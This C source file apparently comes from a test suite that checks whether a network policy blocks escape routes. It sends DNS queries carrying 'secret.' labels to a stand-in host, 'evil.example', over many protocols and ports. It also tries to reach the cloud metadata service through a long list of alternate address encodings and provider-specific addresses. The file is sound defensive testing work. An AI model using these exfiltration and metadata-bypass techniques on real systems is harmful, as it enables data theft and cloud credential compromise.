// SPDX-License-Identifier: Apache-2.0
/* DNS as a way out, and the metadata service by all the names an address can have. See bypass.c. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "bypass.h"

#define ANSWER_MS 3000

/* A question for the address of bypass-N-NAME; returns its length. */
static size_t make_question(uint8_t *ret, const char *name, int type)
{
	uint8_t *p = ret;
	char text[200];

	memcpy(p, "\x12\x34\1\0\0\1\0\0\0\0\0\0", 12);
	p += 12;
	snprintf(text, sizeof(text), "%ssecret.%s", attempt_mark, name);
	for (char *label = strtok(text, "."); label; label = strtok(NULL, ".")) {
		*p++ = (uint8_t)strlen(label);
		p = mempcpy(p, label, strlen(label));
	}
	*p++ = 0;
	*p++ = 0;
	*p++ = (uint8_t)type;
	*p++ = 0;
	*p++ = 1;
	return (size_t)(p - ret);
}

/* Any answer will do, or the end of waiting. */
static void wait_answer(int fd)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char b[1500];

	if (poll(&p, 1, ANSWER_MS) == 1 && read(fd, b, sizeof(b)) < 0)
		return;
}

/* text: the server; n: its port; m: the type of the question */
static int try_udp(const struct attempt *a)
{
	struct address to = address_of(a->text, (uint16_t)a->n);
	int fd = new_socket(strchr(a->text, ':') ? AF_INET6 : AF_INET, SOCK_DGRAM, 0);
	uint8_t b[512];

	if (fd < 0)
		return fd;
	return result(sendto(fd, b, make_question(b, "evil.example", a->m ?: 1), 0,
			     sa(&to), to.len));
}

/* Nobody need listen there: the sniffer knows it by the port it comes from. */
static int try_tcp(const struct attempt *a)
{
	bool v6 = strchr(a->text, ':');
	struct address to = address_of(a->text, (uint16_t)a->n),
		       from = address_of(v6 ? "::" : "0.0.0.0", attempt_port);
	int fd = new_socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0), on = 1, r;
	uint8_t b[514];
	size_t len;

	if (fd < 0)
		return fd;
	len = make_question(b + 2, "evil.example", a->m ?: 1);
	b[0] = 0;
	b[1] = (uint8_t)len;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	r = result(bind(fd, sa(&from), from.len));
	if (r == 0)
		r = result(connect(fd, sa(&to), to.len));
	if (r == 0)
		r = result(send(fd, b, len + 2, MSG_NOSIGNAL));
	if (r == 0)
		wait_answer(fd);
	return r;
}

/* Names that the policy allows, with more in front or behind. */
static int try_name(const struct attempt *a)
{
	struct address to = address_of(DENIED4, 53);
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	uint8_t b[512];

	if (fd < 0)
		return fd;
	return result(
		sendto(fd, b, make_question(b, a->text, a->n ?: 1), 0, sa(&to), to.len));
}

/* Who answers this has done what he does with all that was asked before. */
static void ask_last(void)
{
	struct address to = address_of(DENIED4, 53);
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	uint8_t b[512];

	strcpy(attempt_mark, "last.");
	if (fd >= 0 &&
	    sendto(fd, b, make_question(b, "evil.example", 1), 0, sa(&to), to.len) > 0)
		wait_answer(fd);
}

static const struct attempt dns[] = {
	{ "udp", try_udp, .text = DENIED4, .n = 53 },
	{ "udp-ipv6", try_udp, .text = DENIED6, .n = 53 },
	{ "udp-to-allowed", try_udp, .text = ALLOWED4, .n = 53 },
	{ "udp-text", try_udp, .text = DENIED4, .n = 53, .m = 16 },
	{ "udp-null", try_udp, .text = DENIED4, .n = 53, .m = 10 },
	{ "tcp", try_tcp, .text = DENIED4, .n = 53 },
	{ "tcp-ipv6", try_tcp, .text = DENIED6, .n = 53 },
	{ "tcp-text", try_tcp, .text = DENIED4, .n = 53, .m = 16 },
	{ "tls", try_tcp, .text = DENIED4, .n = 853 },
	{ "quic", try_udp, .text = DENIED4, .n = 853 },
	{ "quic-8853", try_udp, .text = DENIED4, .n = 8853 },
	{ "mdns", try_udp, .text = DENIED4, .n = 5353 },
	{ "mdns-tcp", try_tcp, .text = DENIED4, .n = 5353 },
	{ "llmnr", try_udp, .text = DENIED4, .n = 5355 },
	{ "https", try_tcp, .text = DENIED4, .n = 443 },
	{ "https-ipv6", try_tcp, .text = DENIED6, .n = 443 },
	{ "http3", try_udp, .text = DENIED4, .n = 443 },
	{ "https-to-allowed", try_tcp, .text = ALLOWED4, .n = 443 },
	{ "below-an-allowed-name", try_name, .text = "api.test" },
	{ "before-an-allowed-name", try_name, .text = "api.test.evil.example" },
	{ "text-below-a-wildcard", try_name, .text = "sub.test", .n = 16 },
	{ "service-below-a-wildcard", try_name, .text = "sub.test", .n = 65 },
};
const struct group dns_group = { "dns", dns, ARRAY_SIZE(dns), ask_last };

/* As libraries read an address: octal, hexadecimal, as one number. */
static int try_text(const struct attempt *a)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(attempt_port) };
	struct address address = { .len = sizeof(to) };
	int fd = new_socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return fd;
	if (!inet_aton(a->text, &to.sin_addr))
		return -EINVAL;
	memcpy(&address.sa, &to, sizeof(to));
	return connect_to(fd, address);
}

static int try_address(const struct attempt *a)
{
	int fd = new_socket(strchr(a->text, ':') ? AF_INET6 : AF_INET,
			    a->n ?: SOCK_STREAM, 0);

	if (fd < 0)
		return fd;
	if (a->n == SOCK_DGRAM)
		return send_mark_to(fd, address_of(a->text, attempt_port));
	return connect_to(fd, address_of(a->text, attempt_port));
}

static const struct attempt metadata[] = {
	{ "dotted", try_text, .text = "169.254.169.254" },
	{ "octal", try_text, .text = "0251.0376.0251.0376" },
	{ "octal-number", try_text, .text = "025177524776" },
	{ "hexadecimal", try_text, .text = "0xa9.0xfe.0xa9.0xfe" },
	{ "hexadecimal-number", try_text, .text = "0xa9fea9fe" },
	{ "decimal", try_text, .text = "2852039166" },
	{ "two-parts", try_text, .text = "169.16689662" },
	{ "three-parts", try_text, .text = "169.254.43518" },
	{ "mixed", try_text, .text = "0xa9.0376.43518" },
	{ "udp", try_address, .text = "169.254.169.254", .n = SOCK_DGRAM },
	{ "mapped", try_address, .text = "::ffff:169.254.169.254" },
	{ "mapped-hexadecimal", try_address, .text = "::ffff:a9fe:a9fe" },
	{ "compatible", try_address, .text = "::169.254.169.254" },
	{ "translated", try_address, .text = "::ffff:0:169.254.169.254" },
	{ "nat64", try_address, .text = "64:ff9b::169.254.169.254" },
	{ "nat64-local", try_address, .text = "64:ff9b:1::a9fe:a9fe" },
	{ "6to4", try_address, .text = "2002:a9fe:a9fe::1" },
	{ "teredo", try_address, .text = "2001:0:a9fe:a9fe::5601:5601" },
	{ "aws-ipv6", try_address, .text = "fd00:ec2::254" },
	{ "gcp-ipv6", try_address, .text = "fd20:ce::254" },
	{ "alibaba", try_address, .text = "100.100.100.200" },
	{ "oracle", try_address, .text = "192.0.0.192" },
	{ "azure", try_address, .text = "168.63.129.16" },
	{ "link-local", try_address, .text = "169.254.1.1" },
	{ "private", try_address, .text = "10.1.2.3" },
	{ "private-nat64", try_address, .text = "64:ff9b::10.1.2.3" },
	{ "private-mapped", try_address, .text = "::ffff:10.1.2.3" },
	{ "host", try_address, .text = "198.51.100.2" },
};
const struct group metadata_group = { "metadata", metadata, ARRAY_SIZE(metadata) };
